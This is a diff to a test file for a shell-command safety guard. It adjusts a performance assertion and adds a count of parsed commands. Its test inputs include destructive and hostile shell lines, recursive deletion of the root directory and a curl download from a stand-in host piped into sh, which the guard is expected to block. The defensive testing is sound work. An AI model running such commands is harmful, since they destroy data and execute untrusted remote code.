@@ -15,6 +15,7 @@ import pytest
 
 from execmagic.guard.check import CommandRefused, check
 from execmagic.guard.secrets import redact
+from execmagic.guard.walk import simple_commands
 from execmagic.shell.lexer import tokenize
 from work_count import growth, work
 
@@ -137,10 +138,11 @@ def test_an_ordinary_command_is_not_put_to_every_rule():
 def test_an_inert_command_is_passed_as_it_stands(unit):
     """A command no rule judges, with no code, redirection or assignment in it, that hands nothing on: each was
     walked as any other (about 250 lines of Python on top of reading it, the guard at 2.5-4.5 s per MB on such
-    scripts), now yielded as it stands (about 120)."""
+    scripts), now passed by the check at once (50 to 100); the walk still yields it to who asks for every command."""
     text = "rm x; " + unit * 2000
     check("all", text)
-    assert work(lambda: check("all", text)) - work(lambda: tokenize(text)) < 170 * 2000
+    assert work(lambda: check("all", text)) - work(lambda: tokenize(text)) < 120 * 2000
+    assert len(list(simple_commands(text))) == 2001
     assert check("all", unit * 3 + "X=/; " + unit + "rm -rf $X").rule == "rm-recursive-root"
     assert check("all", unit * 3 + "cd /; " + unit + "rm -rf *").rule == "rm-recursive-root"
     assert check("all", unit * 3 + "curl -o f http://x; " + unit + "sh f").rule == "pipe-to-shell"
